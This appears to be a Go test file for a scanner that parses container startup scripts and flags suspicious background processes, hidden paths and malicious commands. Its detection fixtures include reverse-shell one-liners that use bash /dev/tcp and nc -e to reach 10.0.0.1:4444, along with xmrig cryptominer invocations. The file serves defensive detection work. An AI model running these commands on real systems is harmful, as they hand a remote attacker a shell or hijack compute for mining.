package startup

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// summary writes each command as "line:words" with & for background and
// the function it belongs to.
func summary(s script) []string {
	var out []string
	for _, c := range s.cmds {
		var ws []string
		for _, w := range c.words {
			ws = append(ws, w.lit)
		}
		t := itoa(c.line) + ":" + strings.Join(ws, " ")
		if c.background {
			t += " &"
		}
		if c.fn != "" {
			t += " [" + c.fn + "]"
		}
		out = append(out, t)
	}
	return out
}

func TestParse(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      []string
	}{
		{"simple", "echo hi\nexec app --flag\n", []string{"1:echo hi", "2:exec app --flag"}},
		{"background", "crond &\nnohup x > /dev/null 2>&1 &\ny && z &\na; b\n", []string{"1:crond &", "2:nohup x &", "3:y &", "3:z &", "4:a", "4:b"}},
		{"and is not background", "[ -f x ] && . x\n", []string{"1:[ -f x ]", "1:. x"}},
		{"subshell background", "(sleep 1; miner) &\nexec app\n", []string{"1:sleep 1 &", "1:miner &", "2:exec app"}},
		{"brace group background", "{ a; b; } &\nc\n", []string{"1:a &", "1:b &", "2:c"}},
		{"redirections dropped", "cmd >&2 2>/dev/null </dev/null &>log\n", []string{"1:cmd"}},
		{"quotes", `exec nginx -g 'daemon off;' "$@"` + "\n", []string{"1:exec nginx -g daemon off; $@"}},
		{"comments", "# exec nothing &\necho a # b &\n", []string{"2:echo a"}},
		{"continuation", "exec app \\\n  --x\n", []string{"1:exec app --x"}},
		{"heredoc", "cat <<EOF\nbad & thing\nEOF\nexec app\n", []string{"1:cat", "4:exec app"}},
		{"if", "if [ \"$1\" = x ]; then\n  exec x\nelse\n  exec y\nfi\n", []string{"1:[ $1 = x ]", "2:exec x", "4:exec y"}},
		{"case", "case \"$1\" in\n  a|b) run a ;;\n  *.sh)\n    . \"$1\"\n    ;;\nesac\n", []string{"2:run a", "4:. $1"}},
		{"function", "f() {\n  bg &\n}\nfunction g {\n  h\n}\nf\n", []string{"2:bg & [f]", "5:h [g]", "7:f"}},
		{"command substitution", "x=$(echo a; b &)\nexec \"$x\"\n", []string{"1:x=$(echo a; b &)", "2:exec $x"}},
		{"while loop", "find /d | sort | while read -r f; do \"$f\"; done\n", []string{"1:find /d", "1:sort", "1:read -r f", "1:$f"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, summary(parse(tc.src))); diff != "" {
				t.Errorf("commands (-want +got):\n%s", diff)
			}
		})
	}
}

func TestUnwrap(t *testing.T) {
	for _, tc := range []struct {
		src            string
		want           string
		exec, detached bool
	}{
		{"exec gosu app node server.js", "node server.js", true, false},
		{"exec su-exec app:app \"$@\"", "$@", true, false},
		{"tini -- /entrypoint.sh run", "/entrypoint.sh run", false, false},
		{"env -u X A=b nice -n 5 app", "app", false, false},
		{"setsid /tmp/x", "/tmp/x", false, true},
		{"setsid -w /tmp/x", "/tmp/x", false, false},
		{"start-stop-daemon --start --background --exec /usr/sbin/x", "start-stop-daemon --start --background --exec /usr/sbin/x", false, true},
		{"screen -dmS s /tmp/m", "screen -dmS s /tmp/m", false, true},
		{"tmux new-session -d -s x /tmp/m", "tmux new-session -d -s x /tmp/m", false, true},
		{"X=1 Y=2", "", false, false},
	} {
		s := parse(tc.src)
		inv := unwrap(s.cmds[0].words)
		if got := strings.Join(lits(inv.args), " "); got != tc.want || inv.exec != tc.exec || inv.detached != tc.detached {
			t.Errorf("unwrap(%q) = %q exec=%v detached=%v", tc.src, got, inv.exec, inv.detached)
		}
	}
}

func TestMalicious(t *testing.T) {
	for _, tc := range []struct {
		cmd string
		bad bool
	}{
		{"nohup ./xmrig -o pool:3333", true},
		{"/opt/x -o stratum+tcp://pool.example.net:3333", true},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
		{"nc -e /bin/sh 10.0.0.1 4444", true},
		{"exec 3<>/dev/tcp/localhost/80", false},
		{"crond -f", false},
		{"nc -z db 5432", false},
	} {
		if _, got := malicious(tc.cmd); got != tc.bad {
			t.Errorf("malicious(%q) = %v", tc.cmd, got)
		}
	}
}

func TestHiddenPlace(t *testing.T) {
	for p, want := range map[string]bool{
		"/tmp/x": true, "/dev/shm/m": true, "/opt/.cache/m": true, "/usr/sbin/crond": false, "crond": false, "./run": false,
	} {
		if got := hiddenPlace(p); got != want {
			t.Errorf("hiddenPlace(%q) = %v", p, got)
		}
	}
}
